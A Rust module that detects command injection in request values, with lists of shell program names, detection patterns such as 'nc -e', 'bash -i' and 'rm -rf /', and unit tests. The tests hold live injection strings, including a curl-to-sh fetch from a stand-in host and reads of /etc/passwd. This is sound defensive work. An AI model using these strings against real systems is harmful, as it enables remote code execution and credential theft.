//! Command injection: what stands after a separator or inside a substitution is read as a shell reads it.

use super::Match;
use crate::rules;
use crate::text::{at, find, find_byte, is_space, is_word, rest, skip, span};

/// Programs whose names are no words of prose.
const PROGRAMS: [&[u8]; 82] = [
    b"bash",
    b"sh",
    b"zsh",
    b"ksh",
    b"csh",
    b"wget",
    b"curl",
    b"nc",
    b"ncat",
    b"netcat",
    b"socat",
    b"telnet",
    b"nslookup",
    b"dig",
    b"whoami",
    b"uname",
    b"ifconfig",
    b"ipconfig",
    b"netstat",
    b"netsh",
    b"traceroute",
    b"tracert",
    b"ping",
    b"ping6",
    b"chmod",
    b"chown",
    b"rm",
    b"rmdir",
    b"mkdir",
    b"mkfifo",
    b"mknod",
    b"cat",
    b"tac",
    b"ls",
    b"ps",
    b"pwd",
    b"env",
    b"printenv",
    b"xxd",
    b"base64",
    b"awk",
    b"sed",
    b"grep",
    b"egrep",
    b"powershell",
    b"powershell.exe",
    b"pwsh",
    b"cmd.exe",
    b"certutil",
    b"bitsadmin",
    b"rundll32",
    b"regsvr32",
    b"mshta",
    b"wmic",
    b"cscript",
    b"wscript",
    b"tasklist",
    b"taskkill",
    b"systeminfo",
    b"schtasks",
    b"net.exe",
    b"tftp",
    b"scp",
    b"ssh",
    b"ftp",
    b"nmap",
    b"crontab",
    b"sudo",
    b"useradd",
    b"adduser",
    b"dir",
    b"id",
    b"ifdata",
    b"busybox",
    b"lsof",
    b"arp",
    b"iptables",
    b"ping.exe",
    b"nslookup.exe",
    b"phpinfo",
    b"ipcs",
    b"usleep",
];
/// Programs whose names are words: they count with arguments that no sentence has.
const WORDS: [&[u8]; 52] = [
    b"find",
    b"type",
    b"more",
    b"less",
    b"sort",
    b"date",
    b"time",
    b"who",
    b"w",
    b"host",
    b"set",
    b"test",
    b"echo",
    b"sleep",
    b"head",
    b"tail",
    b"touch",
    b"kill",
    b"cp",
    b"mv",
    b"tee",
    b"cut",
    b"tr",
    b"vi",
    b"net",
    b"ver",
    b"copy",
    b"del",
    b"read",
    b"exec",
    b"eval",
    b"source",
    b"export",
    b"reboot",
    b"shutdown",
    b"print",
    b"python",
    b"python2",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"node",
    b"lua",
    b"java",
    b"gcc",
    b"cmd",
    b"hostname",
    b"route",
    b"reg",
    b"passwd",
    b"dash",
];
/// Deeper commands than this in one value say nothing new.
const LOOKS: usize = 512;

/// Searches a lower-case value.
pub(super) fn detect(value: &[u8], found: &mut impl FnMut(Match)) {
    separators(value, found);
    substitutions(value, found);
    paths(value, found);
    if let Some(start) = find(value, 0, b"() {").or_else(|| find(value, 0, b"(){"))
        && find(span(value, start, start + 24), 0, b"}")
            .is_some_and(|end| matches!(at(value, skip(value, start + end + 1, is_space)), b';'))
    {
        found((&rules::CMD_SHELLSHOCK, start, start + 8));
    }
    for word in [&b"$ifs"[..], b"${ifs", b"/dev/tcp/", b"/dev/udp/"] {
        if let Some(start) = find(value, 0, word) {
            found((&rules::CMD_INJECTION, start, start + word.len()));
        }
    }
}

fn separators(value: &[u8], found: &mut impl FnMut(Match)) {
    let mut i = 0;
    for _ in 0..LOOKS {
        let Some(step) = rest(value, i)
            .iter()
            .position(|b| matches!(b, b';' | b'|' | b'&' | b'\n'))
        else {
            return;
        };
        let start = i + step;
        let separator = at(value, start);
        let end = skip(value, start, |b| {
            matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r')
        });
        i = end;
        let doubled = end > start + 1;
        let Some(command) = Command::read(value, end) else {
            continue;
        };
        let strong = match separator {
            b'|' => !command.is_pipe_in_prose(value, start),
            b';' => {
                command.argued()
                    || (!command.ambiguous()
                        && command.last
                        && (start == 0 || end == command.from || command.path))
            }
            b'&' => {
                command.argued()
                    || doubled && !command.ambiguous()
                    || (!command.ambiguous()
                        && command.last
                        && !is_word(if start == 0 {
                            b' '
                        } else {
                            at(value, start - 1)
                        }))
            }
            _ => command.argued() && !command.ambiguous() && command.telling(),
        };
        if strong
            && (!command.ambiguous()
                || command.argued()
                || command.last && separator == b'|' && start == 0)
        {
            found((&rules::CMD_INJECTION, start, command.to));
            return;
        }
    }
    // A separator at the end and a program at the beginning: `id;`, `/bin/ls|`.
    if let Some(command) = Command::read(value, 0)
        && !command.ambiguous()
        && (command.path || command.telling())
    {
        found((&rules::CMD_PROGRAM, command.from, command.to));
    }
}

fn substitutions(value: &[u8], found: &mut impl FnMut(Match)) {
    let mut i = 0;
    for _ in 0..LOOKS {
        let Some(start) = memchr::memchr2(b'`', b'$', rest(value, i)).map(|n| n + i) else {
            break;
        };
        i = start + 1;
        let inside = match (at(value, start), at(value, start + 1)) {
            (b'`', _) => start + 1,
            (b'$', b'(') => start + 2,
            _ => continue,
        };
        let Some(command) = Command::read(value, inside) else {
            continue;
        };
        let tick = at(value, start) == b'`';
        let end = find_byte(value, inside, if tick { b'`' } else { b')' });
        // Prose about programs puts their names in ticks: a blank before, a blank or a full stop behind.
        let quoted = tick
            && value.len() > 60
            && start > 0
            && (is_space(at(value, start - 1)) || at(value, start - 1) >= 0x80);
        let whole = end.is_none_or(|end| command.argued() || end <= command.to + 1);
        if whole && (!command.ambiguous() || command.argued()) && (end.is_some() || !tick) {
            found((
                if quoted {
                    &rules::CMD_HINT
                } else {
                    &rules::CMD_SUBSTITUTION
                },
                start,
                end.unwrap_or(command.to) + 1,
            ));
            return;
        }
        if let Some(end) = end.filter(|_| tick) {
            i = end + 1;
        }
    }
    if let Some(start) = find(value, 0, b"<(").or_else(|| find(value, 0, b">("))
        && Command::read(value, start + 2).is_some_and(|c| !c.ambiguous())
    {
        found((&rules::CMD_SUBSTITUTION, start, start + 2));
    }
}

/// Programs by their full path, wherever they stand.
fn paths(value: &[u8], found: &mut impl FnMut(Match)) {
    let mut i = 0;
    while let Some(start) = find(value, i, b"bin/") {
        i = start + 4;
        let program = span(value, i, skip(value, i, |b| is_word(b) || b == b'.'));
        let after = at(value, i + program.len());
        if (PROGRAMS.contains(&program) || WORDS.contains(&program))
            && (is_space(after)
                || matches!(
                    after,
                    0 | b'|' | b';' | b'`' | b'"' | b'\'' | b')' | b'&' | b'$' | b'>' | b'%'
                ))
            && (start == 0 || matches!(at(value, start - 1), b'/' | b's'))
        {
            found((&rules::CMD_PROGRAM, start, i + program.len()));
            return;
        }
    }
    for (word, rule) in [
        (&b"cmd.exe"[..], &rules::CMD_PROGRAM),
        (b"cmd /c", &rules::CMD_PROGRAM),
        (b"cmd/c", &rules::CMD_PROGRAM),
        (b"powershell -", &rules::CMD_PROGRAM),
        (b"xp_cmdshell", &rules::CMD_PROGRAM),
        (b"nc -e", &rules::CMD_PROGRAM),
        (b"bash -i", &rules::CMD_PROGRAM),
        (b"bash -c", &rules::CMD_PROGRAM),
        (b"sh -c", &rules::CMD_PROGRAM),
        (b"invoke-expression", &rules::CMD_PROGRAM),
        (b"downloadstring", &rules::CMD_PROGRAM),
        (b"rm -rf /", &rules::CMD_PROGRAM),
        (b"/???/", &rules::CMD_HINT),
    ] {
        if let Some(start) = find(value, 0, word)
            && (start == 0 || !is_word(at(value, start - 1)))
        {
            found((rule, start, start + word.len()));
            return;
        }
    }
}

/// A word in the place of a command that names a program.
struct Command {
    from: usize,
    to: usize,
    name: Name,
    arguments: Arguments,
    /// Named by a path.
    path: bool,
    /// Nothing but a separator or the end follows.
    last: bool,
}

/// What else a name might be.
#[derive(PartialEq, Eq)]
enum Name {
    /// Nothing else.
    Program,
    /// A word of prose.
    Word,
}

/// What follows a name.
#[derive(PartialEq, Eq)]
enum Arguments {
    /// Nothing, or what might be prose.
    Plain,
    /// A quote, a variable, another separator.
    Likely,
    /// A flag, a path, an address, a redirection.
    Telling,
}

impl Command {
    fn read(value: &[u8], i: usize) -> Option<Self> {
        let from = skip(value, i, |b| {
            is_space(b) || matches!(b, b'(' | b'{' | b'+' | b'@' | b'"' | b'\'' | b'!')
        });
        let mut name = [0; 32];
        let mut length = 0;
        let mut path = false;
        let mut to = from;
        while to < value.len() {
            let b = at(value, to);
            match b {
                // Quotes, backslashes and empty variables vanish: `c'a't`, `w\hoami`, `who$@ami`.
                b'\\'
                    if matches!(at(value, to + 1), b'n' | b'r') && !is_word(at(value, to + 2)) =>
                {
                    break;
                }
                b'\'' | b'"' | b'\\' => {}
                b'$' if matches!(at(value, to + 1), b'@' | b'*' | b'1'..=b'9') => to += 1,
                b'/' => {
                    path = true;
                    length = 0;
                }
                _ if is_word(b) || matches!(b, b'.' | b'-') => {
                    *name.get_mut(length)? = b;
                    length += 1;
                }
                _ => break,
            }
            to += 1;
            if to - from > 128 {
                return None;
            }
        }
        let name = span(&name, 0, length);
        let ambiguous = WORDS.contains(&name);
        if !ambiguous && !PROGRAMS.contains(&name) {
            return None;
        }
        let next = skip(value, to, |b| is_space(b) || b == b'+');
        let (a, b) = (at(value, next), at(value, next + 1));
        let last = next >= value.len()
            || matches!(a, b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'\n')
            || a == b'\\' && matches!(b, b'n' | b'r');
        let spaced = next > to;
        let address = span(value, next, next + 16)
            .iter()
            .filter(|b| **b == b'.')
            .count()
            >= 3
            && a.is_ascii_digit();
        let telling = spaced
            && (a == b'-' && b.is_ascii_alphanumeric()
                || a == b'/' && (is_word(b) || b == b'?')
                || a == b'~'
                || name == b"net"
                    && [&b"user"[..], b"localgroup", b"view", b"share", b"use "]
                        .iter()
                        .any(|verb| rest(value, next).starts_with(verb))
                || name == b"reg" && rest(value, next).starts_with(b"add")
                || a == b'.' && matches!(b, b'/' | b'.')
                || address
                || rest(value, next).starts_with(b"http")
                || b == b':' && at(value, next + 2) == b'/'
                || b == b':' && at(value, next + 2) == b'\\'
                || b == b':' && name == b"dir")
            || matches!(a, b'>' | b'<') && !matches!(b, b'/' | b'b' | b'p');
        let argued = telling
            || !ambiguous && next < value.len() && matches!(a, b'|' | b';') && last
            || spaced && matches!(a, b'$' | b'"' | b'\'' | b'`')
            || spaced && ambiguous && a.is_ascii_digit() && matches!(name, b"sleep")
            || matches!(a, b'$')
            || rest(value, next).starts_with(b"%") && matches!(name, b"echo");
        Some(Self {
            from,
            to,
            name: if ambiguous { Name::Word } else { Name::Program },
            arguments: match (telling, argued) {
                (true, _) => Arguments::Telling,
                (false, true) => Arguments::Likely,
                (false, false) => Arguments::Plain,
            },
            path: path && at(value, from) == b'/',
            last,
        })
    }

    fn ambiguous(&self) -> bool {
        self.name == Name::Word
    }

    fn argued(&self) -> bool {
        self.arguments != Arguments::Plain
    }

    fn telling(&self) -> bool {
        self.arguments == Arguments::Telling
    }

    /// `A | cat pictures`: a bar with blanks around it and a sentence behind.
    fn is_pipe_in_prose(&self, value: &[u8], start: usize) -> bool {
        !self.argued() && !self.last && start > 0 && is_space(at(value, start - 1))
            || self.ambiguous() && !self.argued() && start > 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(value: &str) -> u32 {
        let mut score = 0;
        detect(value.to_ascii_lowercase().as_bytes(), &mut |(
            rule,
            _,
            _,
        )| {
            score = score.max(rule.score)
        });
        score
    }

    #[test]
    fn commands_after_separators_and_in_substitutions_are_seen() {
        for value in [
            "; id",
            ";id|",
            "|/bin/ls -al",
            "a|id",
            "`id`",
            "$(whoami)",
            "127.0.0.1; cat /etc/passwd",
            "& ping -i 30 127.0.0.1 &",
            "||/usr/bin/id|",
            "a && wget http://e.vil/x",
            ";c'a't /etc/passwd",
            ";w\\hoami",
            "`/usr/bin/id`",
            "() { :;}; echo x",
            "x;cat${IFS}/etc/passwd",
            "| sleep 10",
            "a;echo $PATH",
            "1\ncurl -s http://e.vil|sh",
            "/bin/ls -al",
            "$(curl http://e.vil)",
            "'; ping -c 3 127.0.0.1 #",
            "x|dir c:\\",
            ";netstat -a;",
            "powershell -enc aaaa",
            "a;/usr/bin/id",
        ] {
            assert!(score(value) >= 5, "missed: {value}");
        }
    }

    #[test]
    fn separators_in_prose_are_not_commands() {
        for value in [
            "cats; find out more",
            "q & a",
            "r&d",
            "at&t",
            "p&id diagrams",
            "black & white; more or less",
            "a | b | c",
            "text/html;q=0.9",
            "first; sort the rest",
            "$(\"#x\")",
            "buy milk; date tbd",
            "mozilla/5.0 (windows nt 10.0; win64; x64)",
            "see `readme` for details",
            "price $5 (net)",
            "名称；查找 find 内容",
            "a;b;c",
            "time | host | cat pictures",
            "line one\nfind me\nsort it",
            "foo=bar; path=/; httponly",
            "set-cookie; id",
            "curl is a tool",
            "node.js; java; python 编程",
        ] {
            assert!(score(value) < 5, "flagged: {value}");
        }
    }
}
